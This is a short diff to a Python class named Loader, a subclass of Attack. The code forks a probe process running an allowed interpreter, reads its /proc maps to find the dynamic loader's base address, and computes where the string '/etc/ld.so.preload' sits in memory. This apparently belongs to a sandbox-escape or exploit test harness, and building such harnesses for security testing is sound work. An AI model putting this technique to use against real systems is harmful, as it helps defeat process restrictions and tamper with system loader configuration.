@@ -92,8 +92,9 @@ class Loader(Attack):
                 os.execve(allowed, [allowed, "-ISc", "import time; time.sleep(60)"], {})
             for _ in range(100):
                 time.sleep(0.05)
-                lines = [line for line in open(f"/proc/{probe}/maps") if "/ld-" in line or "/ld." in line]
-                if lines and os.readlink(f"/proc/{probe}/exe") == allowed: break
+                if os.readlink(f"/proc/{probe}/exe") != allowed: continue
+                lines = [line for line in open(f"/proc/{probe}/maps") if "/ld-" in line]  # not its cache, ld.so.cache
+                if lines: break
             base, path = int(lines[0].split("-")[0], 16), lines[0].split()[-1]
             os.kill(probe, 9); os.waitpid(probe, 0)
             asked = (base + open(path, "rb").read().index(b"/etc/ld.so.preload\\0")) & 0xffffffff
